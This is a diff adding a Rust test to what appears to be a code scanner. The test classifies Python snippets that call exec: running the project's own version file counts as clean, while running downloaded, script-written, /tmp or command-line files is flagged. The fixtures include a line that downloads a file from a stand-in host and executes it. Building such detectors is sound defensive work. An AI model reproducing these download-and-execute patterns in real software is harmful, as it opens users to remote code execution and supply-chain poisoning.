@@ -6644,3 +6644,70 @@ fn red26_values_through_less_common_shapes() {
     ];
     check_all(rows);
 }
+
+/// The text of a Python source file of the project the script has not changed, run with `exec`
+/// (`exec(compile(...))` of a `_version.py` to read `__version__` without importing the
+/// package), runs the project's own code, as running the file would; the same call on a file
+/// the script wrote, downloaded, a file outside the working tree, a data file or a name given
+/// on the command line stays a finding.
+#[test]
+fn exec_of_a_project_source_file_runs_the_project() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import pathlib\nmeta = {}\nf = pathlib.Path(__file__).parent / 'src' / 'pkg' / '_version.py'\n\
+             exec(compile(f.read_text(encoding='utf-8'), str(f), 'exec'), meta)\nprint(meta['__version__'])\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "ns = {}\nwith open('pkg/version.py') as fh:\n    exec(fh.read(), ns)\nprint(ns['VERSION'])\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "ns = {}\nexec(open('pkg/version.py').read(), ns)\n",
+            Clean,
+            "",
+        ),
+        // The script wrote the file first: what it runs is what it wrote.
+        (
+            Py,
+            "import pathlib, sys\nf = pathlib.Path('pkg/_gen.py')\nf.write_text(sys.stdin.read())\n\
+             exec(f.read_text())\n",
+            Suspicious,
+            "remote-code",
+        ),
+        // Downloaded into the project, then run.
+        (
+            Py,
+            "import urllib.request, pathlib\n\
+             urllib.request.urlretrieve('https://x.example.net/p.py', 'pkg/p.py')\n\
+             exec(pathlib.Path('pkg/p.py').read_text())\n",
+            Dangerous,
+            "source-poisoning",
+        ),
+        // Outside the working tree, a data file, a name from the command line.
+        (
+            Py,
+            "exec(open('/tmp/payload.py').read())\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "exec(open('data/rows.txt').read())\n",
+            Suspicious,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import sys\nexec(open(sys.argv[1]).read())\n",
+            Suspicious,
+            "remote-code",
+        ),
+    ];
+    check_all(rows);
+}
